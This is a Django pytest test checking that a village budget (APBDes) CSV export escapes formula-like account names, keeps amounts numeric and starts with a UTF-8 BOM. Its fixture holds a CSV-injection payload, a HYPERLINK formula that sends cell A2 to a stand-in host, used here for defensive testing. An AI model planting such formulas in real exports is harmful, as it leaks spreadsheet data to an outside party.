"""The public APBDes CSV goes through the one formula-safe writer: an account name that looks
like a formula is text, amounts stay numbers, and the file opens in Excel as UTF-8."""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse

from balai.budget.models import Account
from balai.budget.tests.conftest import make_year

pytestmark = pytest.mark.django_db
FORMULA = '=HYPERLINK("http://x/?"&A2)'


def test_the_apbdes_csv_keeps_formula_text_inert_and_amounts_numeric(client, dagan):
    Account.objects.filter(axis="ekonomi", code="4.2.1.01").update(name=FORMULA)
    Account.objects.filter(axis="ekonomi", code="4.2.3.01").update(name="-Alokasi Dana Desa")
    make_year(dagan, 2025)
    url = reverse("site:budget_year_csv", kwargs={"village_slug": "dagan", "tahun": 2025})
    response = client.get(url)
    text = response.content.decode("utf-8")
    assert text.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"))))
    by_code = {row[3]: row for row in rows[1:]}
    assert by_code["4.2.1.01"][4] == "'" + FORMULA
    assert by_code["4.2.3.01"][4] == "'-Alokasi Dana Desa"
    assert by_code["4.2.1.01"][7:10] == ["1000000000", "", "600000000"]
    assert "no-store" not in response.get("Cache-Control", "")  # public: may be cached
